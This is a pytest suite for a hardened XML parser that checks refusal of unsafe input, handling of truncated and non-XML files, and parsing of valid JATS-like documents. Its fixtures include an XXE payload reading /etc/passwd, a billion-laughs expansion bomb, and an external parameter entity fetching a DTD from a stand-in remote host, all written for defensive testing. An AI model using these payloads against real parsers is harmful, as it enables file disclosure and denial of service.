"""Hardened XML: XXE, billion laughs, parameter entities, truncated and non-XML input."""

from __future__ import annotations

import gzip
import io
from pathlib import Path

import pytest
from lxml import etree

from mmrare_core.base.xmlsafe import (
    check_prolog,
    iterparse,
    parse,
    read_xml_bytes,
    reject_entity_nodes,
    safe_parser,
)
from mmrare_core.errors import MMRareError, OntologyFormatError, UnsafeXMLError

XXE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE foo [
  <!ELEMENT foo ANY>
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<foo>&xxe;</foo>
"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>
"""

EXTERNAL_PE = b"""<?xml version="1.0"?>
<!DOCTYPE data [
  <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd">
  %remote;
]>
<data>x</data>
"""

#: Entity references that stay nodes: the DTD is external (never loaded) so lxml keeps them.
UNDECLARED_REF = b"""<?xml version="1.0"?>
<!DOCTYPE article PUBLIC "-//NLM//DTD JATS (Z39.96) Journal Archiving DTD v1.2//EN" "JATS.dtd">
<article><p>a&nbsp;b</p></article>
"""

JATS_LIKE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE article PUBLIC "-//NLM//DTD JATS (Z39.96) Journal Archiving DTD v1.2//EN" "JATS.dtd">
<article><body><p id="p1">Fever &amp; rash.</p><p>Second.</p></body></article>
"""


def _passwd_marker() -> str:
    """A line of /etc/passwd that must never show up anywhere."""
    try:
        return Path("/etc/passwd").read_text().splitlines()[0]
    except (OSError, IndexError):
        return "root:x:0:0"


def _write(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def _consume(path: Path | io.BytesIO, **kw: object) -> list[str]:
    return [e.tag for _, e in iterparse(path, **kw)]  # type: ignore[arg-type]


# --------------------------------------------------------------------------- unsafe input


@pytest.mark.parametrize("allow", [False, True])
def test_xxe_is_refused_with_file_and_line(
    tmp_path: Path, allow: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _write(tmp_path, "xxe.xml", XXE)
    with pytest.raises(UnsafeXMLError) as info:
        _consume(path, allow_internal_entities=allow)
    message = str(info.value)
    assert f"{path}:4" in message and "xxe" in message and "external" in message
    out = capsys.readouterr()
    for text in (message, out.out, out.err):
        assert _passwd_marker() not in text


def test_xxe_never_reaches_the_file_content(tmp_path: Path) -> None:
    path = _write(tmp_path, "xxe.xml", XXE)
    for call in (parse, read_xml_bytes):
        with pytest.raises(UnsafeXMLError) as info:
            call(path)
        assert _passwd_marker() not in str(info.value)
    with pytest.raises(UnsafeXMLError):
        check_prolog(XXE, "xxe.xml")


@pytest.mark.parametrize("allow", [False, True])
def test_billion_laughs_is_refused(tmp_path: Path, allow: bool) -> None:
    path = _write(tmp_path, "lol.xml", BILLION_LAUGHS)
    with pytest.raises(UnsafeXMLError) as info:
        _consume(path, allow_internal_entities=allow)
    # without the allowance the first declaration fails; with it, the first that refers on
    assert f"{path}:{4 if allow else 3}" in str(info.value)


@pytest.mark.parametrize("allow", [False, True])
def test_external_parameter_entity_is_refused(tmp_path: Path, allow: bool) -> None:
    path = _write(tmp_path, "pe.xml", EXTERNAL_PE)
    with pytest.raises(UnsafeXMLError, match=r"pe\.xml:3.*parameter entity"):
        _consume(path, allow_internal_entities=allow)


def test_parameter_entity_reference_alone_is_refused() -> None:
    with pytest.raises(UnsafeXMLError, match=r"x\.xml:2.*%ext;"):
        check_prolog(b"<!DOCTYPE d [\n%ext;\n]><d/>", "x.xml")


def test_entity_nodes_that_slip_through_are_refused(tmp_path: Path) -> None:
    path = _write(tmp_path, "ref.xml", UNDECLARED_REF)
    with pytest.raises(UnsafeXMLError, match=r"ref\.xml:3.*&nbsp;"):
        _consume(path, tag="p")
    with pytest.raises(UnsafeXMLError, match=r"ref\.xml"):
        parse(path)


def test_reject_entity_nodes_on_a_tree() -> None:
    tree = etree.fromstring(UNDECLARED_REF, etree.XMLParser(resolve_entities=False))
    with pytest.raises(UnsafeXMLError, match=r"doc\.xml:3"):
        reject_entity_nodes(tree, "doc.xml")


def test_safe_parser_cannot_be_weakened() -> None:
    for option in ("resolve_entities", "load_dtd", "dtd_validation", "huge_tree"):
        with pytest.raises(UnsafeXMLError, match=option):
            safe_parser(**{option: True})
    with pytest.raises(UnsafeXMLError, match="no_network"):
        safe_parser(no_network=False)
    assert safe_parser(remove_comments=False) is not None


def test_safe_parser_leaves_xxe_unexpanded() -> None:
    root = etree.fromstring(XXE, safe_parser())
    assert _passwd_marker() not in etree.tostring(root, encoding="unicode")


# --------------------------------------------------------------------------- broken input


def test_truncated_file(tmp_path: Path) -> None:
    path = _write(tmp_path, "cut.xml", b"<r>\n  <a>1</a>\n  <a>2")
    with pytest.raises(OntologyFormatError, match=r"cut\.xml:3: malformed XML"):
        _consume(path, tag="a")


def test_truncated_gzip(tmp_path: Path) -> None:
    data = gzip.compress(b"<r>" + b"<a>x</a>" * 5000 + b"</r>")
    path = _write(tmp_path, "cut.xml.gz", data[: len(data) // 2])
    with pytest.raises(OntologyFormatError, match=r"cut\.xml\.gz.*(truncated|malformed)"):
        _consume(path, tag="a")


def test_non_xml_file(tmp_path: Path) -> None:
    path = _write(tmp_path, "notes.txt", b"just some\nplain text\n")
    with pytest.raises(OntologyFormatError, match=r"notes\.txt:1: malformed XML"):
        _consume(path)
    with pytest.raises(OntologyFormatError, match=r"notes\.txt:1"):
        parse(path)


def test_empty_file(tmp_path: Path) -> None:
    with pytest.raises(OntologyFormatError, match=r"empty\.xml"):
        _consume(_write(tmp_path, "empty.xml", b""))


def test_caller_chooses_the_error_class(tmp_path: Path) -> None:
    class JatsError(MMRareError, ValueError):
        pass

    path = _write(tmp_path, "article.xml", b"<article><p>open")
    with pytest.raises(JatsError, match=r"article\.xml:1"):
        _consume(path, error=JatsError)
    with pytest.raises(JatsError):
        parse(path, error=JatsError)


# --------------------------------------------------------------------------- good input


def test_streams_gzip_and_plain_alike(tmp_path: Path) -> None:
    doc = b"<r>" + b"".join(b"<d n='%d'/>" % i for i in range(1000)) + b"</r>"
    plain = _write(tmp_path, "d.xml", doc)
    packed = _write(tmp_path, "d.bin", gzip.compress(doc))
    assert _consume(plain, tag="d") == _consume(packed, tag="d") == ["d"] * 1000


def test_reads_the_file_once(tmp_path: Path) -> None:
    doc = b'<?xml version="1.0"?>\n<!-- ' + b"x" * 200_000 + b" -->\n<r><d/></r>"

    class Counting(io.BytesIO):
        read_bytes = 0

        def read(self, size: int | None = -1) -> bytes:
            data = super().read(size)
            Counting.read_bytes += len(data)
            return data

    stream = Counting(doc)
    assert _consume(stream, tag="d") == ["d"]
    assert Counting.read_bytes == len(doc)
    assert not stream.closed  # a file object passed in stays open


def test_jats_like_doctype_without_entities_parses() -> None:
    tree = parse(io.BytesIO(JATS_LIKE), source="PMC1.xml")
    assert tree.getroot().findtext("body/p") == "Fever & rash."
    assert [e.get("id") for _, e in iterparse(io.BytesIO(JATS_LIKE), "p")] == ["p1", None]


def test_internal_namespace_entities_allowed_on_request() -> None:
    doc = (
        b'<!DOCTYPE r [\n<!ENTITY ordo "http://www.orpha.net/ORDO/">\n]><r a="&ordo;x">&ordo;y</r>'
    )
    root = parse(io.BytesIO(doc), allow_internal_entities=True).getroot()
    assert (root.get("a"), root.text) == (
        "http://www.orpha.net/ORDO/x",
        "http://www.orpha.net/ORDO/y",
    )
    assert [e.text for _, e in iterparse(io.BytesIO(doc), allow_internal_entities=True)] == [
        "http://www.orpha.net/ORDO/y"
    ]
    with pytest.raises(UnsafeXMLError, match=r"<input>:2.*'ordo'"):
        parse(io.BytesIO(doc), source="<input>")


def test_prolog_scan_ignores_lookalikes_in_comments_and_quotes() -> None:
    head = (
        b'<?xml version="1.0"?>\n<!-- <!ENTITY fake SYSTEM "x"> -->\n'
        b'<!DOCTYPE r PUBLIC "-//A//EN" "r]>.dtd" [\n  <!-- <!ENTITY also "no"> -->\n'
        b'  <!ATTLIST r note CDATA "a > b">\n]>\n<r/>'
    )
    check_prolog(head, "r.xml")
    assert parse(io.BytesIO(head)).getroot().tag == "r"


def test_long_prolog_over_several_chunks(tmp_path: Path) -> None:
    comments = b"".join(b"<!-- %d -->\n" % i for i in range(20_000))
    doc = b"<?xml version='1.0'?>\n" + comments + b'<!DOCTYPE r [<!ENTITY e SYSTEM "x">]><r/>'
    with pytest.raises(UnsafeXMLError, match=r"long\.xml:20002"):
        _consume(_write(tmp_path, "long.xml", doc))
